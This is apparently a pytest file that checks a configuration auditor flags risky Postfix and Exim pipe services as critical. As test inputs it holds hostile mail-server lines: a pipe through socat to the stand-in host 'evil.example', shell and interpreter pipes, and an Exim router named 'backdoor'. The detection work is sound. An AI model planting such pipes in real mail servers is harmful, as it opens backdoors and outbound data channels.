"""audit and verify agree on risky pipes (issue 10 class 7): postfix master.cf pipe
services and exim transports/routers into shells, interpreters or command runners."""

from __future__ import annotations

import pytest

from integrity.analyzers import exim as ex
from integrity.analyzers import postfix as pf
from integrity.model import Severity


def _rules(findings):
    return {(f.rule, f.severity) for f in findings}


MASTER = "smtp inet n - y - - smtpd\n"


@pytest.mark.parametrize(
    ("argv", "critical"),
    [
        ("/bin/sh -c 'cat > /tmp/x'", True),
        ("/usr/bin/env python3 /srv/hook.py", True),
        ("/usr/bin/socat - TCP:evil.example:443", True),
        ("/usr/bin/maildrop -d ${recipient}", False),
    ],
)
def test_master_pipe_into_shell_is_critical_in_audit_and_verify(argv: str, critical: bool):
    """A pipe service into a shell/interpreter/runner: audit and verify agree (critical)."""
    line = f"evil unix - n n - - pipe\n  flags=F user=nobody argv={argv}\n"
    after = pf.parse_master(MASTER + line)
    audit = _rules(pf.assess_master("/etc/postfix/master.cf", after))
    verify = _rules(pf.diff_master("/etc/postfix/master.cf", pf.parse_master(MASTER), after))
    pair = ("MI-POSTFIX-PIPE-SHELL", Severity.CRITICAL)
    assert (pair in audit) is critical and (pair in verify) is critical


def test_exim_transport_into_shell_is_critical_in_audit_and_verify():
    """An exim pipe transport (or redirect data) into a shell: critical, audit and verify."""
    base = "begin transports\n\nlocal:\n  driver = appendfile\n"
    evil = base + "\nhook:\n  driver = pipe\n  command = /bin/bash -c 'id'\n"
    audit = _rules(ex.assess_conf("/etc/exim4/exim4.conf", ex.parse_conf(evil)))
    verify = _rules(
        ex.diff_conf("/etc/exim4/exim4.conf", ex.parse_conf(base), ex.parse_conf(evil))
    )
    assert ("MI-EXIM-PIPE-SHELL", Severity.CRITICAL) in audit
    assert ("MI-EXIM-PIPE-SHELL", Severity.CRITICAL) in verify
    router = "begin routers\n\nbackdoor:\n  driver = redirect\n  data = |/usr/bin/perl -e 1\n"
    assert ("MI-EXIM-PIPE-SHELL", Severity.CRITICAL) in _rules(
        ex.assess_conf("/etc/exim4/exim4.conf", ex.parse_conf(router))
    )
